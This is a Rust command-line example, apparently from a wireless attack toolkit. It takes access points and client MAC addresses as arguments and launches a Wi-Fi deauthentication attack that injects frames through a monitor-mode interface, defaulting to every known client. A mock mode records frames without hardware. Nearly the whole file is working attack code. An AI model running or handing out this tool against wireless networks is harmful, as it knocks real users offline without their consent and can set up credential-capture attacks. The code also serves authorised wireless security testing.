//! Deauthentication from the command line
//!
//! Seeds the registry with the access points and clients given on the
//! command line (a sniffer would normally do this) and deauths the target.
//!
//! Usage:
//!   cargo run --example deauth -- -I wlan0mon \
//!       --ap 00:11:22:33:44:55/6/corp --client 00:11:22:33:44:55=aa:bb:cc:dd:ee:ff
//!
//! Without hardware:
//!   cargo run --example deauth -- --mock --ap 00:11:22:33:44:55/6 \
//!       --client 00:11:22:33:44:55=aa:bb:cc:dd:ee:ff -p wifi.deauth.packets=4

use airjam_attack::{DeauthOrchestrator, DeauthSettings};
use airjam_core::mock::MockRadio;
use airjam_core::{DatalinkRadio, MacAddr, ParamStore, Radio};
use airjam_wifi::{Aliases, WifiRegistry};
use clap::Parser;
use std::sync::Arc;
use std::time::Duration;
use tracing::Level;

#[derive(Parser, Debug)]
#[command(name = "deauth")]
#[command(version, about = "Deauthenticate wireless clients", long_about = None)]
struct Cli {
    /// Monitor-mode interface to inject on
    #[arg(short = 'I', long, required_unless_present_any = ["mock", "list_interfaces"])]
    interface: Option<String>,

    /// Record frames in memory instead of touching hardware
    #[arg(long)]
    mock: bool,

    /// List interfaces and exit
    #[arg(short = 'l', long)]
    list_interfaces: bool,

    /// Access point as BSSID/CHANNEL[/ESSID]
    #[arg(long = "ap", value_name = "BSSID/CHANNEL[/ESSID]")]
    access_points: Vec<String>,

    /// Client as AP_BSSID=CLIENT_MAC
    #[arg(long = "client", value_name = "BSSID=MAC")]
    clients: Vec<String>,

    /// Parameters (key=value pairs)
    #[arg(short = 'p', long = "param", value_name = "KEY=VALUE")]
    params: Vec<String>,

    /// Give up waiting after this many seconds (0 = wait for completion)
    #[arg(short = 't', long, value_name = "SECONDS", default_value = "0")]
    timeout: u64,

    /// Verbose output (-v, -vv for increasing verbosity)
    #[arg(short = 'v', long, action = clap::ArgAction::Count)]
    verbose: u8,

    /// AP or client to deauth (default: every known client)
    #[arg(value_name = "TARGET", default_value = "ff:ff:ff:ff:ff:ff")]
    target: MacAddr,
}

fn seed(registry: &WifiRegistry, cli: &Cli) -> Result<(), Box<dyn std::error::Error>> {
    for spec in &cli.access_points {
        let mut parts = spec.splitn(3, '/');
        let bssid: MacAddr = parts.next().unwrap_or_default().parse()?;
        let channel: u32 = parts.next().ok_or("missing channel")?.parse()?;
        let essid = parts.next().unwrap_or("");

        let frequency = if channel == 14 {
            2484
        } else if channel <= 13 {
            2407 + channel * 5
        } else {
            5000 + channel * 5
        };

        let (ap, _) = registry.add_if_new(essid, bssid, frequency, 0);
        ap.station().set_security("WPA2", "CCMP", "PSK");
    }

    for spec in &cli.clients {
        let (bssid, client) = spec.split_once('=').ok_or("expected BSSID=MAC")?;
        let bssid: MacAddr = bssid.parse()?;
        let ap = registry
            .get(&bssid)
            .ok_or_else(|| format!("unknown access point {}", bssid))?;
        ap.add_client_if_new(client.parse()?, ap.frequency(), 0);
    }

    Ok(())
}

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    let cli = Cli::parse();

    let level = match cli.verbose {
        0 => Level::INFO,
        1 => Level::DEBUG,
        _ => Level::TRACE,
    };
    tracing_subscriber::fmt().with_max_level(level).init();

    if cli.list_interfaces {
        for name in DatalinkRadio::list_all() {
            println!("{}", name);
        }
        return Ok(());
    }

    let params = ParamStore::new();
    DeauthSettings::register_defaults(&params)?;
    for param in &cli.params {
        let (key, value) = param.split_once('=').ok_or("expected KEY=VALUE")?;
        params.set(key, value)?;
    }

    let registry = Arc::new(WifiRegistry::new(Arc::new(Aliases::new())));
    seed(&registry, &cli)?;

    let mock = Arc::new(MockRadio::active());
    let radio: Arc<dyn Radio> = match &cli.interface {
        Some(name) if !cli.mock => Arc::new(DatalinkRadio::by_name(name)?),
        _ => mock.clone(),
    };

    let orchestrator = DeauthOrchestrator::new(registry, radio, Arc::new(params));
    orchestrator.begin_deauth(cli.target).await?;

    if cli.timeout == 0 {
        orchestrator.wait_idle().await;
    } else if tokio::time::timeout(Duration::from_secs(cli.timeout), orchestrator.wait_idle())
        .await
        .is_err()
    {
        tracing::warn!(seconds = cli.timeout, "Timeout reached, stopping");
    }
    orchestrator.shutdown().await;

    println!("{}", orchestrator.stats().snapshot().format());
    if cli.mock {
        println!("mock radio recorded {} frames", mock.frame_count());
    }

    Ok(())
}
